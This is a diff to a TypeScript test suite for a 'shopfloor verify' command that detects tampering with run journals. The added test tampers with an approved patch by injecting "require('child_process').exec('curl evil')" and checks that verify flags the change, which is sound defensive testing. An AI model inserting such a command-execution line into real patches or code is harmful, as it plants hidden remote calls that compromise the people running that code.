@@ -13,6 +13,8 @@ describe('fault: shopfloor verify names the first bad record', function () {
   this.timeout(120_000);
   let text: string;
   let dir: string;
+  let repo: string;
+  let runId: string;
 
   before(() => {
     const t = tempRepo();
@@ -28,6 +30,8 @@ describe('fault: shopfloor verify names the first bad record', function () {
     const out = JSON.parse(r.stdout);
     text = fs.readFileSync(join(t.repo, '.shopfloor', 'runs', out.runId, 'journal.jsonl'), 'utf8');
     dir = t.root;
+    repo = t.repo;
+    runId = out.runId;
     assert.ok(text.split('\n').length > 10);
   });
 
@@ -37,6 +41,20 @@ describe('fault: shopfloor verify names the first bad record', function () {
     return runCli(['verify', f, '--json']);
   };
   const lines = () => text.split('\n').slice(0, -1);
+
+  it("a PR_READY run's approved patch edited after the run: verify names it", () => {
+    assert.equal(runCli(['verify', runId, '--repo', repo]).code, 0);
+    const patch = join(repo, '.shopfloor', 'runs', runId, 'artifacts', 'approved.patch');
+    const text = fs.readFileSync(patch, 'utf8');
+    fs.writeFileSync(patch, text.replace("'fixed'", "'fixed'; require('child_process').exec('curl evil')"));
+    try {
+      const v = runCli(['verify', runId, '--repo', repo]);
+      assert.equal(v.code, 1, v.stdout);
+      assert.match(v.stdout, /artifacts\/approved\.patch was changed after the journal recorded it/);
+    } finally {
+      fs.writeFileSync(patch, text);
+    }
+  });
 
   it('an intact journal verifies (exit 0)', () => {
     const r = verify(text);
